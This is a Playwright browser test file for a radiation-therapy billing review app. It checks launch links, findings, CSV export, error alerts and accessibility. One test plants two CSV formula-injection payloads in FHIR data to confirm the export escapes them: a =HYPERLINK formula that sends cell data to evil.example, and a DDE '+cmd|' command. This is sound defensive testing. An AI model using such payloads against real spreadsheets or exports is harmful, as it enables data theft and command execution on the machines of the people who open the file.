import { readFile } from 'node:fs/promises';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { browserAvailable, browserRequired, CHROMIUM, launchBrowser } from '../helpers/browser.js';
import { useDemoInBrowser } from '../helpers/demo-browser.js';
import { spawnService, type Spawned } from '../helpers/processes.js';
import { demoPatient } from '../helpers/cases.js';

if (!browserAvailable && !browserRequired) {
  console.warn(`Browser tests SKIPPED: no Chromium at ${CHROMIUM}. Install it with: apt-get install -y chromium`);
}

describe.skipIf(!browserAvailable && !browserRequired)('reviewer app and demo in Chromium', () => {
  const demo = useDemoInBrowser();
  const pageErrors: string[] = [];

  async function newPage(): Promise<Page> {
    const page = await demo.browser.newPage({ viewport: { width: 1280, height: 900 }, acceptDownloads: true });
    page.on('pageerror', (error) => pageErrors.push(error.message));
    return page;
  }

  /** From /demo, follow a patient's SMART launch link and wait for the review. */
  async function launchFromDemo(page: Page, patient: string): Promise<void> {
    await page.goto(`${demo.service.url}/demo`);
    await page.locator(`section[data-patient="${patient}"] a.launch`).click();
    await page.waitForURL(/\/smart-app\/index\.html/);
    await page.locator('#sessions').waitFor({ timeout: 20_000 });
  }

  const column = (page: Page, index: number) => page.locator(`#sessions tbody tr td:nth-child(${index})`).allInnerTexts();

  it.each([
    [demoPatient('a1'), ['77402'], ['None']],
    [demoPatient('a2'), ['77407', '77407'], ['Billable', 'Billable']],
    [demoPatient('a4'), ['77412', '77412'], ['Billable', 'Billable']],
    [demoPatient('a5'), ['77412'], ['None']],
  ])('launch link for %s shows the supportable codes and 77387-26 status', async (patient, codes, igrt) => {
    const page = await newPage();
    await launchFromDemo(page, patient);
    expect(page.url()).toContain('/smart-app/index.html');
    expect(await column(page, 7)).toEqual(codes.map((c) => expect.stringContaining(c)));
    expect((await column(page, 9)).map((t) => t.trim())).toEqual(igrt);
    await page.close();
  });

  it('shows unsigned images as an I-SIGN finding with its rule, source and evidence', async () => {
    const page = await newPage();
    await launchFromDemo(page, demoPatient('ig'));
    expect((await column(page, 9)).map((t) => t.trim())).toEqual(['Billable', 'Pending approval']);
    await page.locator('#sessions tbody tr').nth(1).locator('button').click();
    const detail = page.locator('#detail');
    await expect.poll(() => detail.innerText()).toContain('I-SIGN');
    expect(await detail.innerText()).toMatch(/Warning/);
    expect(await detail.innerText()).toContain('Source: 001');
    // Evidence reads as a summary, not a raw FHIR URL; the JSON is one click away.
    const evidence = detail.locator('[data-evidence="Procedure/ig-fx-2"]');
    expect(await evidence.locator('.evidence-summary').innerText()).toMatch(/^Treatment fraction · 2026-03-10 .*completed/);
    expect(await detail.locator('a[href*="/fhir/Procedure/"]').count()).toBe(0);
    expect(await page.locator('#level3-share').innerText()).toBe('Not judged (one patient)');
    await page.close();
  });

  it('a lost 77387-26 (AMM record never signed) is critical, shown as text, not colour alone', async () => {
    const page = await newPage();
    await launchFromDemo(page, demoPatient('am'));
    const first = page.locator('#sessions tbody tr').first();
    expect(await first.innerText()).toContain('Lost (not signed in time)');
    expect(await first.innerText()).toContain('Critical');
    expect(await page.locator('[data-tile="level3-share"]').innerText()).toContain('77412 on 2 of 2 sessions');
    await page.close();
  });

  it('exports the lines to bill as CSV', async () => {
    const page = await newPage();
    await launchFromDemo(page, demoPatient('a2'));
    const [download] = await Promise.all([page.waitForEvent('download'), page.locator('#export-csv').click()]);
    const csv = await readFile((await download.path())!, 'utf8');
    const lines = csv.trim().split('\r\n');
    // The columns are tested at 800×600 (reviewer-frame.test.ts); here, the lines of both sessions.
    expect(lines.slice(1).map((line) => line.split(',').slice(2, 5).join(' '))).toEqual([
      '2026-02-02 77407 ',
      '2026-02-02 77387 26',
      '2026-02-03 77407 ',
      '2026-02-03 77387 26',
    ]);
    await page.close();
  });

  it('exports FHIR values that look like formulas as text (=HYPERLINK, +cmd|), as the CLI does', async () => {
    // An EHR record whose fractions name their encounter with references the service cannot resolve: the session
    // keeps the reference as written, and it reaches the CSV's encounter column.
    const HOSTILE: Record<string, string> = {
      'a2-fx-1': '=HYPERLINK("https://evil.example/?d="&A1,"Open")',
      'a2-fx-2': "+cmd|' /C calc'!A0",
    };
    const page = await newPage();
    await page.route(/\/fhir\/Procedure\?/, async (route) => {
      const response = await route.fetch();
      const bundle = (await response.json()) as { entry?: { resource: { id: string; encounter?: { reference: string } } }[] };
      for (const { resource } of bundle.entry ?? []) {
        const reference = HOSTILE[resource.id];
        if (reference && resource.encounter) resource.encounter.reference = reference;
      }
      await route.fulfill({ response, json: bundle });
    });
    await launchFromDemo(page, demoPatient('a2'));
    const [download] = await Promise.all([page.waitForEvent('download'), page.locator('#export-csv').click()]);
    const rows = parseCsv(await readFile((await download.path())!, 'utf8'));
    const encounters = rows.slice(1).map((row) => row[11]);
    expect(encounters).toEqual(expect.arrayContaining([`'${HOSTILE['a2-fx-1']}`, `'${HOSTILE['a2-fx-2']}`]));
    // No cell a spreadsheet would run.
    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    await page.close();
  });

  it("the demo sends encounter-discharge, renders the cards, and a card's smart link opens the app on that session", async () => {
    const page = await newPage();
    await page.goto(`${demo.service.url}/demo`);
    const section = page.locator(`section[data-patient="${demoPatient('ig')}"]`);
    await section.getByRole('button', { name: 'encounter-discharge ig-enc-2' }).click();
    const card = section.locator('li.card[data-rule="I-SIGN"]');
    await card.waitFor();
    expect(await card.innerText()).toContain('Approve the images of 2026-03-10 before the next fraction to bill 77387-26');
    expect(await card.locator('.card-detail').innerHTML()).toContain('<strong>');
    await section.locator('li.card').first().locator('a[data-link-type="smart"]').click();
    await page.waitForURL(/\/smart-app\/index\.html/);
    await page.locator('#detail').waitFor({ timeout: 20_000 });
    expect(await page.locator('#detail-title').innerText()).toBe('Session of 2026-03-10');
    await page.close();
  });

  it('the demo sends order-sign and shows the authorization mismatch', async () => {
    const page = await newPage();
    await page.goto(`${demo.service.url}/demo`);
    const section = page.locator(`section[data-patient="${demoPatient('au')}"]`);
    await section.getByRole('button', { name: 'order-sign' }).click();
    await section.locator('li.card[data-rule="C-AUTH-MISMATCH"]').waitFor();
    // Only the concern: the level the order describes is information, in the reviewer app.
    expect(await section.locator('li.card').first().innerText()).toContain('differs from the 77412 this order describes');
    await page.close();
  });

  it.each([
    ['the FHIR server is down', (route: { abort: () => Promise<void> }) => route.abort(), "The EHR's FHIR server is not answering", true],
    [
      'the FHIR server refuses the request',
      (route: { fulfill: (r: object) => Promise<void> }) => route.fulfill({ status: 401, contentType: 'application/json', body: '{}' }),
      "The EHR's FHIR server refused the app's access",
      false,
    ],
    [
      'the FHIR server does not have the patient',
      (route: { fulfill: (r: object) => Promise<void> }) =>
        route.fulfill({ status: 404, contentType: 'application/fhir+json', body: '{"resourceType":"OperationOutcome","issue":[]}' }),
      "The EHR's FHIR server does not have this patient's record",
      false,
    ],
  ])('when %s, says what to do', async (_label, handler, title, retry) => {
    const page = await newPage();
    await page.route(/\/fhir\/(Procedure|Patient\/)/, handler as never);
    await page.goto(`${demo.service.url}/demo`);
    await page.locator(`section[data-patient="${demoPatient('a1')}"] a.launch`).click();
    const alert = page.getByRole('alert');
    await alert.waitFor({ timeout: 20_000 });
    expect(await alert.innerText()).toContain(title);
    expect(await alert.getByRole('button', { name: 'Try again' }).count()).toBe(retry ? 1 : 0);
    await page.close();
  });

  it('opened without a launch, says how to open it', async () => {
    const page = await newPage();
    await page.goto(`${demo.service.url}/smart-app/index.html`);
    await page.getByRole('alert').waitFor();
    expect(await page.getByRole('alert').innerText()).toContain('Not launched');
    await page.close();
  });

  it('is readable on a narrow screen and works from the keyboard', async () => {
    const page = await demo.browser.newPage({ viewport: { width: 390, height: 844 } });
    page.on('pageerror', (error) => pageErrors.push(error.message));
    await page.goto(`${demo.service.url}/demo`);
    await page.locator(`section[data-patient="${demoPatient('a4')}"] a.launch`).click();
    await page.locator('#sessions').waitFor({ timeout: 20_000 });
    const overflow = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
    expect(overflow).toBeLessThanOrEqual(1);
    await page.locator('#sessions tbody tr button').first().focus();
    await page.keyboard.press('Enter');
    await expect.poll(() => page.evaluate(() => document.activeElement?.id)).toBe('detail-title');
    await page.close();
  });

  it('raised no uncaught page errors', () => {
    expect(pageErrors).toEqual([]);
  });
});

/**
 * `npm start` with no configuration: the demo is served, and a launch from it shows the review with the
 * patient banner and nothing in the browser console (no 404s, no CSP violations, no errors).
 */
describe.skipIf(!browserAvailable && !browserRequired)('npm start with no configuration, in Chromium', () => {
  let service: Spawned;
  let browser: Browser;

  beforeAll(async () => {
    if (!browserAvailable) throw new Error(`Chromium is required (RT_BILLING_REQUIRE_BROWSER=1) but ${CHROMIUM} is missing`);
    service = await spawnService({});
    browser = await launchBrowser();
  }, 60_000);

  afterAll(async () => {
    await browser?.close();
    service?.process.kill('SIGTERM');
    await service?.exit;
  });

  it('serves the demo; its launch shows the review with the patient banner and a clean console', async () => {
    const page = await browser.newPage();
    const messages: string[] = [];
    page.on('console', (message) => {
      if (message.type() === 'error' || message.type() === 'warning') messages.push(`${message.type()}: ${message.text()}`);
    });
    page.on('pageerror', (error) => messages.push(`pageerror: ${error.message}`));
    page.on('response', (response) => {
      if (response.status() >= 400) messages.push(`${response.status()} ${response.url()}`);
    });
    await page.goto(`${service.url}/demo`);
    await page.locator(`section[data-patient="${demoPatient('a4')}"] a.launch`).click();
    await page.locator('#sessions').waitFor({ timeout: 20_000 });
    const banner = await page.locator('#patient-banner').innerText();
    expect(banner).toMatch(/Breast tangents with active motion management|Demo/);
    expect(banner).toMatch(/Born\s+\d{4}-\d{2}-\d{2}/);
    expect(banner).toMatch(/MRN\s+LRC-/);
    expect(await page.locator('link[rel="icon"]').getAttribute('href')).toBe('/smart-app/favicon.svg');
    await page.goto(`${service.url}/rules`); // a page without its own icon: the browser's /favicon.ico resolves too
    expect(messages).toEqual([]);
    await page.close();
  });
});

/** RFC 4180 CSV as rows of cells (quoted fields, "" inside them, CRLF or LF between rows). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  for (const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r?\n|$)/g)) {
    row.push(quoted !== undefined ? quoted.replace(/""/g, '"') : (plain ?? ''));
    if (end !== ',') {
      rows.push(row);
      row = [];
      if (end === '') break;
    }
  }
  return rows.filter((r) => r.some((cell) => cell !== ''));
}
